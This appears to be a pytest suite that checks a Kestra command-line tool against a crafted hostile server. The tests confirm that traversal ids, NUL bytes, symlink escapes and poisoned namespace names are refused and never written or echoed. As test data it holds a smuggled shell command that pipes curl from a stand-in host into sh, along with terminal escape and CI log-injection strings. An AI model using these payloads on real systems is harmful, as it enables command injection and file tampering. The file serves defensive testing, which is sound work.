"""End to end: `pull` and `plan` against a hostile server (issue 9 items 5 and 11). Ids and
namespaces from a server become URLs and file paths: whatever it sends, nothing is written
outside the directory the user named, and a bad id is a one-line error (exit 1), never a bug
(exit 3)."""

from __future__ import annotations

import os
import stat
import sys
from pathlib import Path

import pytest

from tests.support.cli import run_cli
from tests.support.crafted_server import CraftedKestra, crafted_flow

# Creating symbolic links needs a privilege on Windows.
needs_symlinks = pytest.mark.skipif(sys.platform == "win32", reason="symbolic links")


HOSTILE = [
    pytest.param(
        "acme",
        "../../../.github/workflows/pwn",
        "'../../../.github/workflows/pwn'",
        id="traversal-id",
    ),
    # In scope of `--namespace acme --include-children`; dotted layout: flows/acme../../../.github
    pytest.param("acme../../../.github", "pwn", "'acme../../../.github'", id="traversal-namespace"),
    pytest.param("acme", "..", "'..'", id="dot-dot"),
    pytest.param("acme", "a\x00b", "'a\\x00b'", id="nul"),
    pytest.param("acme", "x" * 5000, "5,000 characters", id="5000-chars"),
    # Accepted by Kestra before Nov 2023 (kestra 99a92015f), refused since: plan reads it,
    # pull refuses to write it (validate would refuse the file it made).
    pytest.param("acme", "_legacy", "'_legacy'", id="legacy-id"),
]


def every_file(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize("namespace, flow_id, shown", HOSTILE)
def test_pull_refuses_ids_kestra_does_not_allow_and_writes_nothing(
    tmp_path, namespace, flow_id, shown
):
    work = tmp_path / "repo"
    work.mkdir()
    flows = [crafted_flow("acme", "fine"), crafted_flow(namespace, flow_id)]
    with CraftedKestra(flows) as server:
        r = run_cli(
            "pull",
            "flows",
            *("--namespace", "acme", "--include-children", "--layout", "dotted"),
            cwd=work,
            env={"KESTRA_URL": server.url},
        )
    assert r.returncode == 1, r.stdout + r.stderr
    errors = [line for line in r.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and shown in errors[0], r.stderr
    assert "\x00" not in r.stderr and "Traceback" not in r.stderr
    assert every_file(tmp_path) == set()  # not even the good flow: the server is not trusted


@pytest.mark.parametrize(
    "flow_id, shown", [("a\x00b", "'a\\x00b'"), ("x" * 5000, "5,000 characters")]
)
def test_plan_and_apply_refuse_a_namespace_whose_listing_holds_an_impossible_id(
    tmp_path, flow_id, shown
):
    (tmp_path / "flows/acme").mkdir(parents=True)
    (tmp_path / "flows/acme/fine.yml").write_text(crafted_flow("acme", "fine")["source"])
    with CraftedKestra([crafted_flow("acme", "fine"), crafted_flow("acme", flow_id)]) as server:
        env = {"KESTRA_URL": server.url}
        plan = run_cli("plan", "--delete", cwd=tmp_path, env=env)
        applied = run_cli("apply", "--delete", "--auto-approve", cwd=tmp_path, env=env)
        assert server.writes() == []  # no DELETE of a URL built from that id
    for r in (plan, applied):
        assert r.returncode == 1, r.stdout + r.stderr
        assert shown in r.stdout + r.stderr and "unexpected error" not in r.stderr


@needs_symlinks
def test_pull_never_writes_through_a_symlink_that_leaves_the_directory(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    work = tmp_path / "repo"
    (work / "flows").mkdir(parents=True)
    os.symlink(outside, work / "flows/acme")
    with CraftedKestra([crafted_flow("acme", "fine")]) as server:
        r = run_cli(
            "pull", "flows", "--namespace", "acme", cwd=work, env={"KESTRA_URL": server.url}
        )
    assert r.returncode == 1, r.stdout + r.stderr
    assert "outside flows" in r.stderr and "symbolic link" in r.stderr, r.stderr
    assert list(outside.iterdir()) == []


@pytest.mark.skipif(os.name != "posix", reason="POSIX modes")
def test_pulled_files_get_the_usual_permissions(tmp_path):
    old = os.umask(0o022)
    try:
        with CraftedKestra([crafted_flow("acme", "fine")]) as server:
            r = run_cli(
                "pull", "flows", "--namespace", "acme", cwd=tmp_path, env={"KESTRA_URL": server.url}
            )
    finally:
        os.umask(old)
    assert r.returncode == 0, r.stderr
    mode = stat.S_IMODE((tmp_path / "flows/acme/fine.yml").stat().st_mode)
    assert mode == 0o644, oct(mode)  # was 0600 (tempfile.mkstemp)


def test_namespace_names_a_server_lists_never_reach_the_plan_or_a_suggested_command(tmp_path):
    """`plan --delete` names the server's namespaces outside git, with a command to retire one:
    a name Kestra would refuse (a shell command, an escape sequence, a line that a CI log reads
    as a workflow command) is a listing that cannot be trusted, never a line of the plan."""
    (tmp_path / "flows").mkdir()
    (tmp_path / "flows" / "acme.etl.yml").write_text(
        crafted_flow("acme", "etl")["source"], encoding="utf-8"
    )
    hostile = [
        "acme",
        "acme.x;curl${IFS}evil.example|sh",
        "acme.y\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
        "acme.z\n::error::pwned",
    ]
    with CraftedKestra([crafted_flow("acme", "etl")], namespaces=hostile) as server:
        for fmt in ("text", "json", "markdown"):
            done = run_cli(
                "plan", "flows", "--server", server.url, "--kestra-version", "1.0",
                "--delete", "--format", fmt, cwd=tmp_path,
            )  # fmt: skip
            assert done.returncode == 0, done.stdout + done.stderr
            out = done.stdout + done.stderr
            for bad in ("curl", "evil.example", "pwned", "\x1b"):
                assert bad not in out, (fmt, out)
            assert "could not list the server's namespaces" in done.stderr
        assert server.writes() == []
